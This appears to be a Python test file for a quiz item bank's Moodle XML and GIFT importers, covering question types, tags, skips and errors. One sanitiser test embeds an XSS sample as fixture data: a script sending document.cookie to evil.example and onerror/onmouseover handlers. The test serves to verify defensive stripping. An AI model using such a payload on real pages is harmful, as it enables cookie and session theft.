"""Moodle XML and GIFT imports: every supported type, categories as tags, skips and errors."""

from __future__ import annotations

import pytest

from item_bank.interop.detect import parse
from item_bank.interop.model import ImportInvalid, ParsedItem, Skipped
from tests.interop.conftest import sample


def items_of(name: str, **options: bool) -> dict[str, ParsedItem]:
    return {i.title: i for i in parse(sample(name), name, **options).items}


def test_moodle_every_supported_type() -> None:
    result = parse(sample("moodle_all_types.xml"), "moodle_all_types.xml")
    items = {i.title: i for i in result.items}
    assert {i.item_type for i in result.items} == {
        "single_choice", "multiple_response", "true_false", "short_text", "numeric", "matching",
        "extended_text", "inline_choice"}
    single = items["Fraction équivalente"]
    assert single.source_id == "MATH-FR-001"  # the idnumber, when there is one
    assert single.tags == ("Mathématiques", "Fractions", "équivalence")
    assert single.content["correct"] == "b" and single.content["points"] == 2.0
    multiple = items["Fractions plus grandes que un demi"]
    assert multiple.source_id == "Mathématiques/Fractions/Fractions plus grandes que un demi"
    assert multiple.content["correct"] == ["a", "b"]
    assert multiple.metadata["moodle_fractions"] == {"a": 50.0, "b": 50.0, "c": -100.0}
    assert items["Dénominateur nul"].content["correct"] is False
    short = items["Polygone à six côtés"]
    assert short.content["answers"] == ["hexagone", "un hexagone"]  # the 50 % answer is not
    assert short.tags == ("Mathématiques", "Géométrie")
    numeric = items["Aire du rectangle"].content
    assert (numeric["answer"], numeric["tolerance"], numeric["unit"]) == (10.0, 0.1, "m²")
    matching = items["Figures et côtés"].content
    assert len(matching["premises"]) == 3 and len(matching["responses"]) == 4
    assert "a² + b²" in items["Démarche de Pythagore"].content["rubric"]["fr"]
    cloze = items["Vocabulaire de géométrie"].content
    assert "{{g1}}" in cloze["text"]["fr"] and "{{g2}}" in cloze["text"]["fr"]
    assert [g["correct"] for g in cloze["gaps"]] == ["a", "b"]
    # A description is information, not a question: listed, never an error.
    assert result.skipped == (Skipped("Mathématiques/Géométrie/Consignes", "Consignes",
                                      "not_a_question", "description", "moodle_description"),)


def test_moodle_unsupported_refuses_the_whole_file() -> None:
    with pytest.raises(ImportInvalid) as caught:
        parse(sample("moodle_unsupported.xml"), "moodle_unsupported.xml")
    assert caught.value.params == {"file": "moodle_unsupported.xml",
                                   "item": "Vitesse calculée", "reason": "unsupported_type",
                                   "problem": "moodle_type_unknown", "type": "'calculated'"}
    assert str(caught.value) == ("moodle_unsupported.xml: item 'Vitesse calculée': "
                                 "unsupported_type: Moodle question type 'calculated'")


def test_moodle_skip_unsupported_imports_the_rest_and_says_why() -> None:
    result = parse(sample("moodle_unsupported.xml"), "m.xml", skip_unsupported=True)
    assert [i.title for i in result.items] == ["Eau et glace"]
    assert [(s.title, s.reason_code) for s in result.skipped] == [
        ("Vitesse calculée", "unsupported_type"),
        ("Capitale en lacunes", "unsupported_feature"),
        ("Mot commençant par photo", "unsupported_feature")]
    assert "SHORTANSWER" in result.skipped[1].detail
    assert (result.skipped[1].problem, result.skipped[1].values) == (
        "cloze_gap_type", {"gap": "SHORTANSWER"})


def test_moodle_item_without_a_right_answer_is_named() -> None:
    with pytest.raises(ImportInvalid) as caught:
        parse(sample("malformed_moodle.xml"), "malformed_moodle.xml")
    assert caught.value.params["item"] == "Fondateur sans bonne réponse"
    assert "malformed_moodle.xml" in str(caught.value)


def test_gift_file() -> None:
    items = items_of("questions.gift")
    choice = items["Participe passé"]
    assert choice.item_type == "single_choice" and choice.content["correct"] == "a"
    assert choice.metadata["text_format"] == "html" and "<em>" in choice.content["stem"]["fr"]
    assert choice.tags == ("Français", "Grammaire") and choice.source_id == "Participe passé"
    assert items["Nature du mot"].content["correct"] is True
    assert items["Pluriel de cheval"].content["answers"] == ["chevaux", "Chevaux"]
    gap = items["Mot manquant"].content
    assert gap["text"]["fr"] == "Le Saint-Laurent se jette dans l'{{g1}}."
    assert gap["gaps"][0]["correct"] == "b"
    assert items["Homophones"].content["correct"] == ["a", "b"]
    boiling = items["Point d'ébullition"]
    assert boiling.tags == ("Sciences", "Physique")
    assert (boiling.content["answer"], boiling.content["tolerance"]) == (100.0, 0.5)
    assert (items["Intervalle g"].content["answer"],
            items["Intervalle g"].content["tolerance"]) == (9.8, 0.1)
    assert items["Unités"].content["pairs"] == {"p1": "r1", "p2": "r2", "p3": "r3"}
    assert len(items["Unités"].content["responses"]) == 4
    assert items["Rédaction"].item_type == "extended_text"
    untitled = items["Combien font 2 + 2 = ?"]
    assert untitled.source_id.startswith("gift-") and untitled.content["answers"] == [
        "4", "quatre"]
    assert "{ex. marie@ecole.ca}" in items["Caractères spéciaux"].content["stem"]["fr"]


def test_gift_source_ids_are_stable() -> None:
    first = [i.source_id for i in parse(sample("questions.gift"), "a.gift").items]
    assert first == [i.source_id for i in parse(sample("questions.gift"), "b.gift").items]


def test_gift_malformed_names_the_question() -> None:
    with pytest.raises(ImportInvalid) as caught:
        parse(sample("malformed.gift"), "malformed.gift")
    assert caught.value.params == {"file": "malformed.gift", "item": "Accolade oubliée",
                                   "reason": "malformed", "problem": "unclosed_answer_block"}
    skipped = parse(sample("malformed.gift"), "malformed.gift", skip_unsupported=True)
    assert [i.title for i in skipped.items] == ["Bonne question"]


def test_sanitiser_sees_every_html_fragment() -> None:
    quiz = b"""<quiz><question type="multichoice"><name><text>Q</text></name>
      <questiontext format="html"><text><![CDATA[<p>Choisis<script>alert(1)</script></p>]]>
      </text></questiontext><single>true</single>
      <answer fraction="100"><text><![CDATA[<b onclick="x()">Oui</b><script>y()</script>]]>
      </text></answer><answer fraction="0"><text>Non</text></answer></question></quiz>"""
    item = parse(quiz, "q.xml", sanitise=lambda s: s.replace("<script>", "").replace(
        "</script>", "").replace(' onclick="x()"', "")).items[0]
    assert "<script>" not in repr(item.content) and "onclick" not in repr(item.content)


def test_scripts_in_imported_html_are_removed_by_default() -> None:
    quiz = b"""<quiz><question type="truefalse"><name><text>Script</text></name>
      <questiontext format="html"><text><![CDATA[<p onmouseover="steal()">Vrai?</p>
      <script>document.location='https://evil.example/'+document.cookie</script>
      <img src="x.png" alt="x" onerror="steal()">]]></text></questiontext>
      <answer fraction="100"><text>true</text></answer>
      <answer fraction="0"><text>false</text></answer></question></quiz>"""
    stem = parse(quiz, "script.xml").items[0].content["stem"]["fr"]
    assert "script" not in stem and "steal" not in stem and "evil" not in stem
    assert "Vrai?" in stem and 'alt="x"' in stem


def test_texts_are_labelled_with_the_language_asked_for() -> None:
    item = parse(b"::Sky::The sky is blue.{T}", "en.gift", language="en").items[0]
    assert item.language == "en" and item.content["stem"] == {"en": "The sky is blue."}
    options = parse(sample("questions.gift"), "q.gift", language="en").items[0].content
    assert options["options"][0]["text"] == {"en": "mangées"}
